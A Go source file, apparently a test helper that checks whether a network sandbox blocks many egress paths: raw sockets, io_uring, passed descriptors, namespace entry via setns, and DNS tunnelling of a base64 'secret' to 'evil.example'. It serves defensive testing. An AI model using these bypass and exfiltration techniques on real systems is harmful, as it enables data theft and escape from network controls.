// SPDX-License-Identifier: Apache-2.0

package effect

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"runtime"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// word is what is sent to sinks.
var word = []byte("let out")

func sockaddr(text string, port int) unix.Sockaddr {
	a := netip.MustParseAddr(text)
	if a.Is4() {
		return &unix.SockaddrInet4{Addr: a.As4(), Port: port}
	}
	return &unix.SockaddrInet6{Addr: a.As16(), Port: port}
}

// way is a way to get a word to an address.
type way struct {
	kind, protocol int
	send           func(fd int, to unix.Sockaddr) error
}

func ways() map[string]way {
	return map[string]way{
		"tcp":      {unix.SOCK_STREAM, 0, connectAndSend},
		"fastopen": {unix.SOCK_STREAM, 0, func(fd int, to unix.Sockaddr) error { return unix.Sendto(fd, word, unix.MSG_FASTOPEN, to) }},
		"ring":     {unix.SOCK_STREAM, 0, ringSend},
		"mptcp":    {unix.SOCK_STREAM, unix.IPPROTO_MPTCP, connectAndSend},
		"sctp":     {unix.SOCK_STREAM, unix.IPPROTO_SCTP, connectAndSend},
		"udp":      {unix.SOCK_DGRAM, 0, connectAndSend},
		"sendto":   {unix.SOCK_DGRAM, 0, func(fd int, to unix.Sockaddr) error { return unix.Sendto(fd, word, 0, to) }},
		"sendmsg":  {unix.SOCK_DGRAM, 0, func(fd int, to unix.Sockaddr) error { return unix.Sendmsg(fd, word, nil, to, 0) }},
		"sendmmsg": {unix.SOCK_DGRAM, 0, sendMany},
		// From a socket that is connected to a listed address.
		"elsewhere": {unix.SOCK_DGRAM, 0, func(fd int, to unix.Sockaddr) error {
			if err := unix.Connect(fd, sockaddr(listedAddr, listedPort)); err != nil {
				return err
			}
			return unix.Sendto(fd, word, 0, to)
		}},
	}
}

func connectAndSend(fd int, to unix.Sockaddr) error {
	if err := unix.Connect(fd, to); err != nil {
		return os.NewSyscallError("connect", err)
	}
	return os.NewSyscallError("send", unix.Send(fd, word, 0))
}

// sendMany sends by sendmmsg.
func sendMany(fd int, to unix.Sockaddr) error {
	name, length := rawAddress(to)
	iov := unix.Iovec{Base: &word[0], Len: uint64(len(word))}
	msg := struct {
		header unix.Msghdr
		_      [2]uint32
	}{header: unix.Msghdr{Name: &name[0], Namelen: uint32(length), Iov: &iov, Iovlen: 1}}
	_, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&msg)), 1, 0, 0, 0)
	if errno != 0 {
		return os.NewSyscallError("sendmmsg", errno)
	}
	return nil
}

// rawAddress is an address as the kernel takes it.
func rawAddress(to unix.Sockaddr) (*[unix.SizeofSockaddrInet6]byte, int) {
	var raw [unix.SizeofSockaddrInet6]byte
	switch a := to.(type) {
	case *unix.SockaddrInet4:
		binary.NativeEndian.PutUint16(raw[:], unix.AF_INET)
		binary.BigEndian.PutUint16(raw[2:], uint16(a.Port))
		copy(raw[4:], a.Addr[:])
		return &raw, unix.SizeofSockaddrInet4
	case *unix.SockaddrInet6:
		binary.NativeEndian.PutUint16(raw[:], unix.AF_INET6)
		binary.BigEndian.PutUint16(raw[2:], uint16(a.Port))
		copy(raw[8:], a.Addr[:])
	}
	return &raw, len(raw)
}

// actContact sends a word: by WAY to ADDRESS PORT.
func actContact(arguments []string) error {
	w, ok := ways()[arguments[0]]
	port, err := strconv.Atoi(arguments[2])
	if !ok || err != nil {
		return fmt.Errorf("contact %q", arguments)
	}
	family := unix.AF_INET6
	if !strings.Contains(arguments[1], ":") {
		family = unix.AF_INET
	}
	fd, err := unix.Socket(family, w.kind, w.protocol)
	if errors.Is(err, unix.EPROTONOSUPPORT) || errors.Is(err, unix.ESOCKTNOSUPPORT) || errors.Is(err, unix.ENOPROTOOPT) {
		return &missing{arguments[0], "a kernel that is built with it"}
	}
	if err != nil {
		return os.NewSyscallError("socket", err)
	}
	defer unix.Close(fd)
	return w.send(fd, sockaddr(arguments[1], port))
}

// question asks for the address of a name.
func question(name string) []byte {
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(name, ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

// resolve asks the resolver, and gives the address that it answers.
func resolve(name string) (netip.Addr, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return netip.Addr{}, err
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, question(name), 0, sockaddr(resolverAddr, 53)); err != nil {
		return netip.Addr{}, os.NewSyscallError("ask", err)
	}
	wait := unix.NsecToTimeval(int64(patience / 2))
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait); err != nil {
		return netip.Addr{}, err
	}
	reply := make([]byte, 512)
	n, _, err := unix.Recvfrom(fd, reply, 0)
	// The runtime's own signals end a wait that has a bound.
	for errors.Is(err, unix.EINTR) {
		n, _, err = unix.Recvfrom(fd, reply, 0)
	}
	if err != nil || n < 4 {
		return netip.Addr{}, fmt.Errorf("no answer of %d bytes: %w", n, err)
	}
	return netip.AddrFrom4([4]byte(reply[n-4 : n])), nil
}

// actName contacts a name.
func actName(arguments []string) error {
	addr, err := resolve(arguments[0])
	if err != nil {
		return fmt.Errorf("name %s: %w", arguments[0], err)
	}
	return actContact([]string{"tcp", addr.String(), fmt.Sprint(listedPort)})
}

// actQuestion carries data out in the name that it asks for: by udp or tcp.
func actQuestion(arguments []string) error {
	q := question("c2VjcmV0.evil.example")
	kind := unix.SOCK_DGRAM
	if arguments[0] == "tcp" {
		kind = unix.SOCK_STREAM
		q = append([]byte{0, byte(len(q))}, q...)
	}
	fd, err := unix.Socket(unix.AF_INET, kind, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, sockaddr(resolverAddr, 53)); err != nil {
		return os.NewSyscallError("connect", err)
	}
	return os.NewSyscallError("send", unix.Send(fd, q, 0))
}

// actEcho sends an echo request by a raw socket.
func actEcho([]string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)
	if err != nil {
		return os.NewSyscallError("socket", err)
	}
	// Its checksum is the complement of its first word.
	return os.NewSyscallError("send", unix.Sendto(fd, []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}, 0, sockaddr(unlistedAddr, 0)))
}

// actFrame sends an Ethernet frame.
func actFrame([]string) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return os.NewSyscallError("socket", err)
	}
	frame := append(make([]byte, 12), strangeType>>8, strangeType&0xff)
	to := &unix.SockaddrLinklayer{Ifindex: 1, Protocol: uint16(bigEndian(strangeType)), Halen: 6}
	return os.NewSyscallError("send", unix.Sendto(fd, append(frame, make([]byte, 46)...), 0, to))
}

// actKernel speaks with the kernel by a family of sockets that is not listed, and makes the mark when it answers.
func actKernel([]string) error {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_GENERIC)
	if err != nil {
		return os.NewSyscallError("socket", err)
	}
	// CTRL_CMD_GETFAMILY of GENL_ID_CTRL, for all.
	msg := make([]byte, 20)
	binary.NativeEndian.PutUint32(msg, uint32(len(msg)))
	binary.NativeEndian.PutUint16(msg[4:], unix.GENL_ID_CTRL)
	binary.NativeEndian.PutUint16(msg[6:], unix.NLM_F_REQUEST|unix.NLM_F_DUMP)
	msg[16], msg[17] = unix.CTRL_CMD_GETFAMILY, 1
	if err := unix.Sendto(fd, msg, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return err
	}
	if n, _, err := unix.Recvfrom(fd, make([]byte, 8192), 0); err != nil || n == 0 {
		return fmt.Errorf("answer of %d bytes: %w", n, err)
	}
	return os.WriteFile(ranMark, nil, 0o644)
}

// actListen serves one connection: at PORT, or without one at whatever the kernel chooses. It is ready once it listens.
func actListen(arguments []string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	port, err := strconv.Atoi(arguments[0])
	if err != nil {
		return err
	}
	if port > 0 {
		if err := unix.Bind(fd, &unix.SockaddrInet4{Port: port}); err != nil {
			return os.NewSyscallError("bind", err)
		}
	}
	if err := unix.Listen(fd, 1); err != nil {
		return os.NewSyscallError("listen", err)
	}
	name, err := unix.Getsockname(fd)
	if err != nil {
		return err
	}
	here, ok := name.(*unix.SockaddrInet4)
	if !ok {
		return fmt.Errorf("listens on a %T", name)
	}
	if err := os.WriteFile(readyFile+".new", fmt.Append(nil, here.Port), 0o644); err != nil {
		return err
	}
	if err := os.Rename(readyFile+".new", readyFile); err != nil {
		return err
	}
	c, _, err := unix.Accept(fd)
	if err != nil {
		return err
	}
	_, err = unix.Write(c, word)
	return err
}

// actGive connects a socket and passes it over descriptor 3.
func actGive([]string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Connect(fd, sockaddr(unlistedAddr, listedPort)); err != nil {
		return err
	}
	return unix.Sendmsg(3, []byte{1}, unix.UnixRights(fd), nil, 0)
}

// actTake sends by a socket that it was passed.
func actTake([]string) error {
	one, rights := make([]byte, 1), make([]byte, 64)
	_, n, _, _, err := unix.Recvmsg(3, one, rights, 0)
	if err != nil {
		return err
	}
	messages, err := unix.ParseSocketControlMessage(rights[:n])
	if err != nil || len(messages) != 1 {
		return fmt.Errorf("%d messages: %w", len(messages), err)
	}
	passed, err := unix.ParseUnixRights(&messages[0])
	if err != nil {
		return err
	}
	return os.NewSyscallError("send", unix.Send(passed[0], word, unix.MSG_NOSIGNAL))
}

// actEnter enters the network that descriptor 3 stands for, and sends from there.
func actEnter(arguments []string) error {
	runtime.LockOSThread()
	if err := unix.Setns(3, unix.CLONE_NEWNET); err != nil {
		return os.NewSyscallError("setns", err)
	}
	return actContact(arguments)
}
